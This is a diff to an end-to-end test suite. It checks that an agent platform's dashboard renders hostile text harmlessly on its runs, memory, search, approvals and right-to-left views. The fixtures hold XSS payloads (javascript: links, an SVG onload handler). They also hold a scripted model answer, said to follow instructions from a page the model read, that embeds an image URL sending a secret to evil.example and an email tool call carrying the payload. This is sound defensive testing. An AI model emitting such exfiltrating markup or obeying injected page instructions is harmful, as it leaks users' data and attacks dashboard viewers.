@@ -19,6 +19,11 @@ const FAMILY = '👩‍👩‍👧‍👦🏴‍☠️';
 const LONG = 'W'.repeat(10_000);
 const HOSTILE = `${IMAGE}${SCRIPT} ${TURNED} ${FAMILY} [click](javascript:hacked=1) ${LONG}`;
 
+/** Written from right to left, with a sign at the end that would stand at the wrong side. */
+const ARABIC = 'اقرأ العقد (PDF) من فضلك!';
+const HEBREW = 'החוזה מוכן, 3 עמודים.';
+const ARABIC_NAME = 'مساعد (قانوني)';
+
 /** What a model writes that was told to by a page it had read. */
 const ANSWER = `
 ![a picture](https://evil.example/pixel.png?secret=1) ![inline](data:image/svg+xml,<svg onload="hacked=1">)
@@ -77,7 +82,10 @@ describe('the dashboard shows hostile text as text', () => {
     const body = `${IMAGE}${SCRIPT} ${TURNED} javascript:hacked=1 https://good.example@evil.example/ ${LONG}`;
     platform.model.script(({ body: { messages } }) => {
       const { role, content } = messages.at(-1) ?? {};
-      if (role === 'tool' || !String(content).startsWith('mail')) return answer(ANSWER);
+      // what was said stands behind what is remembered by then
+      const said = String(content).split('\n').at(-1) ?? '';
+      if (said === ARABIC) return answer(HEBREW);
+      if (role === 'tool' || !said.startsWith('mail')) return answer(ANSWER);
       return calling('email_sender', { to: ['bo@example.org'], subject: `${IMAGE}${SCRIPT}`, body });
     });
     message = await say(HOSTILE);
@@ -100,8 +108,8 @@ describe('the dashboard shows hostile text as text', () => {
     await platform?.stop();
   });
 
-  async function say(text: string): Promise<string> {
-    const { status, body } = await eve.api('POST', `/agents/${agent.id}/messages`, { text });
+  async function say(text: string, to = agent.id, thread = ''): Promise<string> {
+    const { status, body } = await eve.api('POST', `/agents/${to}/messages`, { text, ...(thread && { thread }) });
     assert.equal(status, 202, JSON.stringify(body));
     return String(body['message_id']);
   }
@@ -238,14 +246,72 @@ describe('the dashboard shows hostile text as text', () => {
       await page.getByRole('heading', { level: 1 }).waitFor();
       await harmless();
     }
-    for (const place of ['runs', 'audit', 'versions', 'metrics', 'memory']) {
+    const own = {
+      runs: page.locator(`a[href="/runs/${message}"]`),
+      audit: page.getByText('agent.created'),
+      'versions?from=1&to=2': page.getByText(SCRIPT),
+      metrics: page.getByRole('columnheader', { name: 'Messages' }),
+    };
+    for (const [place, shown] of Object.entries(own)) {
       await page.goto(`/agents/${agent.id}/${place}`);
-      await page.getByRole('heading', { level: 1 }).waitFor();
-      await page.getByText('Loading…').first().waitFor({ state: 'detached' });
+      await page.getByRole('heading', { level: 1 }).getByText(IMAGE).waitFor();
+      await shown.first().waitFor();
       await harmless();
     }
     await page.goto('/governance');
     await text(IMAGE);
+    await harmless();
+  });
+
+  it('as a memory', async () => {
+    const kept = async () => JSON.stringify((await eve.api('GET', `/agents/${agent.id}/memories`)).body);
+    await until(async () => (await kept()).includes('hacked=1'), 60_000, 'a memory');
+    await page.goto(`/agents/${agent.id}/memory`);
+    const memory = page
+      .locator('[data-memories] > li')
+      .filter({ hasText: SCRIPT })
+      .filter({ hasText: 'U+202E' })
+      .first();
+    await memory.waitFor();
+    await harmless();
+    await memory.getByRole('button', { name: /^Forget/ }).click();
+    await page.getByRole('dialog').getByText(SCRIPT).first().waitFor();
+    await harmless();
+  });
+
+  it('as what is searched for or asked for by a link', async () => {
+    const asked = encodeURIComponent(`${IMAGE}${SCRIPT}`);
+    for (const place of ['/agents', `/agents/${agent.id}/memory`]) {
+      await page.goto(`${place}?q=${asked}`);
+      await until(async () => (await page.getByRole('searchbox').inputValue()) === `${IMAGE}${SCRIPT}`, 5_000, place);
+      await page.locator('main [aria-busy=true]').first().waitFor({ state: 'detached' });
+      await harmless();
+    }
+    await page.goto(`/approvals?tool=${asked}`);
+    await until(
+      async () => (await page.getByLabel('All tools').inputValue()) === `${IMAGE}${SCRIPT}`,
+      5_000,
+      'the tool in the filter',
+    );
+    await harmless();
+  });
+
+  it('as what is written from right to left, which turns nothing around it', async () => {
+    const writer = await eve.agent(ARABIC_NAME);
+    const id = await say(ARABIC, writer.id, `${SCRIPT}${TURNED}`);
+    await until(async () => (await stateOf(id)) === 'answered', 30_000, 'an answer');
+    const isTurned = async (part: string) => {
+      await page.locator(':dir(rtl)', { hasText: part }).first().waitFor();
+      assert.equal(await page.locator('main:dir(ltr)').count(), 1);
+    };
+    await page.goto('/agents');
+    await isTurned(ARABIC_NAME);
+    await harmless();
+    await page.goto(`/agents/${writer.id}`);
+    for (const part of [ARABIC_NAME, ARABIC, HEBREW]) await isTurned(part);
+    // which conversation it is in is a word of ours with a part of the thread, and beside it a button
+    const thread = page.locator('bdi').filter({ hasText: SCRIPT.slice(0, 20) });
+    await thread.first().waitFor();
     await harmless();
   });
 });
